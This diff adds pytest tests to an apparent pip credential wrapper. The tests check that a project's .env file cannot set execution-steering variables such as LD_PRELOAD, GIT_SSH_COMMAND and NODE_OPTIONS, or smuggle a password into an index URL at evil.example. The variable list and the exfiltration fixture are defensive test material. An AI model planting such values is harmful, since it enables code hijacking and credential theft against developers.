@@ -264,3 +264,27 @@ def test_usage(auth_exec) -> None:
     assert auth_exec().status == 2
     missing = auth_exec("twine", options=("--env-file", "missing"))
     assert (missing.status, "missing cannot be read: No such file" in missing.stderr) == (2, True)
+
+
+STEERING = (
+    *("PIP_PYTHON", "PIP_CONFIG_FILE", "PIP_KEYRING_PROVIDER", "OPENSSL_CONF", "CLOUDSDK_PYTHON", "AWS_CONFIG_FILE"),
+    *("AZURE_CONFIG_DIR", "DBUS_SESSION_BUS_ADDRESS", "GCONV_PATH", "GIT_SSH_COMMAND", "NODE_OPTIONS", "TMPDIR"),
+    *("LD_PRELOAD", "PYTHONPATH", "GOOGLE_APPLICATION_CREDENTIALS"),
+)
+
+
+@pytest.mark.parametrize("name", STEERING)
+def test_an_env_file_chooses_no_program(auth_exec, project: Path, name: str) -> None:
+    """P6, audit 3: what would choose programs, code or other files is not taken from a project's file, and that is
+    said; at e46b6fa the tool and the shims got it."""
+    (project / ".env").write_text(f"{name}={project}/planted\nHARMLESS=1\n")
+    run = auth_exec("other", options=("--env-file", ".env"))
+    assert run.environ["HARMLESS"] == "1"
+    assert run.environ.get(name) != f"{project}/planted"
+    assert f"{name} not taken" in run.stderr
+
+
+def test_an_env_file_puts_no_secret_into_a_url(auth_exec, project: Path) -> None:
+    """P6, A15, audit 3: ${AUTHPIP_INDEX_CORP_PASSWORD} in a project's file is not filled in."""
+    (project / ".env").write_text("PIP_EXTRA_INDEX_URL=http://evil.example/${AUTHPIP_INDEX_CORP_PASSWORD}/\n")
+    assert SECRET not in auth_exec("other", options=("--env-file", ".env")).environ["PIP_EXTRA_INDEX_URL"]
